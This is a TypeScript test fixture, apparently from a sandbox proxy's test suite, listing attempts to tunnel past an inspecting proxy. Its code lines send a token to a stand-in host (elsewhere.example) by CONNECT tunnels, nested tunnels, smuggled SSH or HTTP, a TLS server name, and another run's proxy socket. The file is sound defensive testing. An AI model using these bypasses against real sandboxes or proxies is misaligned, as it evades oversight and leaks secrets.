/**
 * Tunnels through the proxy that the proxy cannot inspect. The bare twin opens them at a proxy
 * without rules. The skill may do the same as in `proxy.ts`.
 */
import { type Attempt, isReceived } from '../row.ts';

const tunnel = { wants: 'a tunnel that the proxy does not inspect', proof: isReceived } as const;

export const tunnelRows: readonly Attempt[] = [
  {
    ...tunnel,
    name: 'a tunnel to a host that was not granted',
    code: `send('CONNECT elsewhere.example:443 HTTP/1.1\\nHost: elsewhere.example:443\\n\\n', token)`,
  },
  {
    ...tunnel,
    name: 'a tunnel to an address',
    code: `send('CONNECT 127.0.0.1:%d HTTP/1.1\\nHost: x\\n\\n' % port, token)`,
  },
  {
    ...tunnel,
    name: 'a tunnel to a port that was not granted',
    code: `send('CONNECT api.crm.example:22 HTTP/1.1\\nHost: api.crm.example:22\\n\\n', 'SSH-2.0-%s\\n' % token)`,
  },
  {
    ...tunnel,
    name: 'another protocol in a granted tunnel',
    code: `send('CONNECT api.crm.example:80 HTTP/1.1\\nHost: api.crm.example:80\\n\\n', 'SSH-2.0-%s\\n\\n' % token)`,
  },
  {
    ...tunnel,
    name: 'another host in a granted tunnel',
    code: `send('CONNECT api.crm.example:80 HTTP/1.1\\nHost: api.crm.example:80\\n\\n', 'GET /v2/%s HTTP/1.1\\nHost: elsewhere.example\\n\\n' % token)`,
  },
  {
    ...tunnel,
    name: 'a tunnel in a tunnel',
    code: `send('CONNECT api.crm.example:80 HTTP/1.1\\nHost: api.crm.example:80\\n\\n', 'CONNECT elsewhere.example:443 HTTP/1.1\\nHost: elsewhere.example:443\\n\\n', token)`,
  },
  {
    ...tunnel,
    name: 'the name of another host in the TLS handshake',
    code: `import ssl
a, b = ssl.MemoryBIO(), ssl.MemoryBIO(); c = ssl.create_default_context(); t = c.wrap_bio(a, b, server_hostname=token + '.elsewhere.example')
try: t.do_handshake()
except ssl.SSLWantReadError: pass
send('CONNECT api.crm.example:443 HTTP/1.1\\nHost: api.crm.example:443\\n\\n', b.read())`,
  },
  {
    ...tunnel,
    name: 'bytes that are not TLS where TLS is expected',
    code: `send('CONNECT api.crm.example:443 HTTP/1.1\\nHost: api.crm.example:443\\n\\n', 'GET /admin/%s HTTP/1.1\\nHost: api.crm.example\\n\\n' % token)`,
  },
  {
    ...tunnel,
    name: 'the proxy of another run',
    wants: 'another skill’s grants',
    code: `tell(folder + '/other-proxy.sock', socket.AF_UNIX)`,
  },
];
